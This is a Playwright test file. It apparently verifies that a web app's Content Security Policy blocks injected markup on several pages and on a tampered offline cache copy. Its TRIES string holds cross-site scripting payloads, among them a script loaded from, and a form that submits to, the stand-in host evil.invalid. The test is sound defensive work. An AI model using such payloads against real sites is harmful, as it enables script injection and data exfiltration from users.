import { expect, type Page } from '@playwright/test'
import { newNight, test } from '../harness/night.ts'
import { comeByInvitation } from '../harness/people.ts'

/** What somebody who could write into a page would try. Each but the last says so in the title. */
const TRIES = `<script>document.title='taken'</script>
<img src="/nothing" onerror="document.title='taken'">
<a id="press" href="javascript:document.title='taken'">x</a>
<script src="https://evil.invalid/x.js"></script>
<object data="/icon.svg" type="image/svg+xml"></object>
<form id="leak" action="https://evil.invalid/"><input name="x" value="y"></form>`

declare global {
  interface Window {
    refused: string[]
  }
}

/** Opens a page as the server sends it, headers and all, with the tries written into it; what the browser refused. */
async function withTries(page: Page, path: string): Promise<string[]> {
  await page.addInitScript(() => {
    window.refused = []
    document.addEventListener('securitypolicyviolation', (e) => window.refused.push(e.effectiveDirective))
  })
  await page.route(path, async (route) => {
    const answer = await route.fetch()
    const body = (await answer.text()).replace('</body>', `${TRIES}</body>`)
    await route.fulfill({ response: answer, body })
  })
  await page.goto(path)
  return refusedNow(page)
}

async function refusedNow(page: Page): Promise<string[]> {
  await page.evaluate(() => {
    document.getElementById('press')?.click()
    ;(document.getElementById('leak') as HTMLFormElement).submit()
  })
  await expect.poll(() => page.evaluate(() => window.refused.includes('form-action'))).toBe(true)
  expect(await page.title()).not.toBe('taken')
  return page.evaluate(() => [...new Set(window.refused)].sort())
}

const REFUSED = ['form-action', 'object-src', 'script-src-attr', 'script-src-elem']

test('what is written into a page runs not, loads nothing and sends nothing: desk, settings, phone, and the page a phone keeps', async ({
  browser,
  warm,
}) => {
  const dale = await newNight(browser, warm)
  const desk = await dale.context.newPage()
  for (const path of [`/u/${dale.upgrade}`, '/settings'])
    expect([path, await withTries(desk, path)]).toEqual([path, REFUSED])
  await desk.close()

  const mei = await comeByInvitation(browser, warm, dale, {
    role: 'sentinel',
    person: 'sentinel',
    name: 'Mei',
    lang: 'en',
  })
  const page = await mei.context.newPage()
  const hands = `/u/${dale.upgrade}/hands`
  expect(await withTries(page, hands)).toEqual(REFUSED)
  await page.unroute(hands)

  // Kept with its policy: what is changed in what the phone keeps runs no more than that.
  await page.goto(hands)
  const isKept = () => page.evaluate(async () => (await caches.match(location.pathname)) !== undefined)
  await expect.poll(isKept, { timeout: 20_000 }).toBe(true)
  // Without a line first: with one it may just be kept anew.
  await mei.context.setOffline(true)
  await page.evaluate(async (tries) => {
    for (const name of await caches.keys()) {
      const cache = await caches.open(name)
      const kept = await cache.match(location.pathname)
      if (kept === undefined) continue
      const html = (await kept.text()).replace('</body>', `${tries}</body>`)
      await cache.put(location.pathname, new Response(html, { headers: kept.headers }))
    }
  }, TRIES)
  await page.reload()
  await expect(page.locator('html[data-kept]')).toHaveCount(1)
  await expect(page.locator('#leak')).toHaveCount(1)
  expect(await refusedNow(page)).toEqual(REFUSED)
})
